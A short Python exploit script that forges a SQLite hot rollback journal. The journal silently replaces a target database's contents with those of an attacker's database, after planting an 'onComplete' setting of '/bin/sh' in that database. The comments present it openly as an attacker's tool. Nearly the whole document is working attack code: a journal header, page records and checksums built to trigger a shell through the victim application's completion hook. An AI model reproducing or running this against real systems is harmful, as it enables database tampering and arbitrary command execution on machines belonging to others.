# hot_journal.py SOURCE JOURNAL: writes a hot rollback journal (SQLite's format: a header,
# then each page with its number and checksum) holding every page of the database SOURCE.
# Put beside another database as NAME-journal, SQLite plays it back on the next open and the
# other database becomes SOURCE. SOURCE gets an onComplete hook of /bin/sh first, as an
# attacker's session would carry.
import sqlite3, struct, sys
source, journal = sys.argv[1], sys.argv[2]
c = sqlite3.connect(source)
c.execute("INSERT OR REPLACE INTO setting (session, key, value) VALUES ('default', 'onComplete', '/bin/sh')")
c.commit()
c.execute("PRAGMA wal_checkpoint(TRUNCATE)")
c.close()
data = open(source, "rb").read()
page = struct.unpack(">H", data[16:18])[0] or 65536
pages = len(data) // page
nonce = 0x1234567
sector = 512
out = bytearray(b"\xd9\xd5\x05\xf9\x20\xa1\x63\xd7" + struct.pack(">IIIII", 0xFFFFFFFF, nonce, pages, sector, page))
out += bytes(sector - len(out))
for n in range(pages):
    body = data[n * page:(n + 1) * page]
    sum_ = nonce
    i = page - 200
    while i > 0:
        sum_ += body[i]; i -= 200
    out += struct.pack(">I", n + 1) + body + struct.pack(">I", sum_ & 0xFFFFFFFF)
open(journal, "wb").write(out)
